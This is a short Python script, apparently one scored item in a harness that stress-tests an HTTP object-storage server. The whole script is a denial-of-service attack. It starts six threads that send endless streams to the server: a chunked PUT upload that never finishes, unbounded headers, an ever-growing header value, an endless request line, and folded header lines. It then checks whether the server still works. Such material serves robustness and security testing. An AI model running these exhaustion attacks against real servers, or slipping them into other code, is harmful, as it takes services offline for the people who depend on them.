# attack: 27
# does: begins uploads in chunks that never end, and headers that never end, then works
# run: finished
# earns: 10
# with: work
# with: http
import threading


def endless(start, part):
    try:
        one = line()
        one.sendall(start)
        while True:
            one.sendall(part)
    except OSError:
        pass


put = b"PUT /" + given.bucket.encode() + b"/x HTTP/1.1\r\nHost: x\r\n"
for start, part in (
    (put + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
    (put, b"X-A: b\r\n"),
    (put + b"X-Long: ", b"x" * 1000),
    (b"GET /", b"a" * 1000),
    (b"", b"\r\n"),
    (b"GET / HTTP/1.1\r\n", b" folded\r\n"),
):
    threading.Thread(target=endless, args=(start, part), daemon=True).start()
work()
